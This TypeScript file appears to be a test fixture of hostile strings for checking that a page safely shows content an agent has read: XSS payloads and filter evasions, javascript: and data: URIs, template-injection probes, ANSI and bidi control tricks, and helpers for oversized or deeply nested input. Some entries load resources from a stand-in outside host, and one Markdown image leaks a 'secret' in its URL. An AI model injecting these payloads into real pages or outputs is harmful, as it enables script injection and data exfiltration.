// What an agent may have read and a page must only show: markup, scripts, addresses, control characters, sheer size.

/** Short strings that have broken pages: OWASP's filter evasions, SVG, Markdown, addresses, ANSI, bidi, emoji. */
export const HOSTILE_STRINGS: readonly string[] = [
  "<script>alert(1)</script>",
  '"><script src=https://foreign.example/x.js></script>',
  "<img src=x onerror=alert(1)>",
  '<img src="https://foreign.example/pixel.png">',
  "<svg onload=alert(1)><circle r=9 /></svg>",
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  "<iframe src=javascript:alert(1)></iframe>",
  '<a href="javascript:alert(1)">click</a>',
  "<body onload=alert(1)><base href=https://foreign.example/>",
  "<style>@import url(https://foreign.example/x.css); * { display: none }</style>",
  '<link rel="stylesheet" href="https://foreign.example/x.css"><meta http-equiv="refresh" content="0;url=https://foreign.example/">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<details open ontoggle=alert(1)>",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)//https://foreign.example/",
  "data:text/html,<script>alert(1)</script>",
  "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+",
  "https://foreign.example/image.png",
  "![pixel](https://foreign.example/pixel.png?d=secret)",
  "[click](javascript:alert(1)) <https://foreign.example/>",
  "{{constructor.constructor('alert(1)')()}} " + "$" + "{alert(1)} #{7*7} <%= 7*7 %>",
  "';alert(1)//\\';alert(1)//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
  "__proto__",
  "constructor",
  "\u001b[31mred\u001b[0m\u001b]8;;https://foreign.example/\u0007link\u001b]8;;\u0007\u001b[2J\u0007",
  "\u202Etxt.exe\u202C \u2066hidden\u2069 \u200F\u200Eמלל ערבי عربى",
  "👩‍👩‍👧‍👦🏳️‍🌈 \uFFFF\u0000\u0001 Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
  "a".repeat(3000),
  "﷽".repeat(200),
];

/** JSON, nested this deep; the server shows as much of it as a parser of JSON takes. */
export function deepJson(depth: number): string {
  return `${'{"<b>deep</b>":['.repeat(depth)}1${"]}".repeat(depth)}`;
}

/** A text of so many bytes, with markup at both ends. */
export function hugeText(bytes: number): string {
  const end = "<img src=x onerror=alert(1)>";
  return end + "0123456789abcde\n".repeat(Math.ceil((bytes - 2 * end.length) / 16)) + end;
}
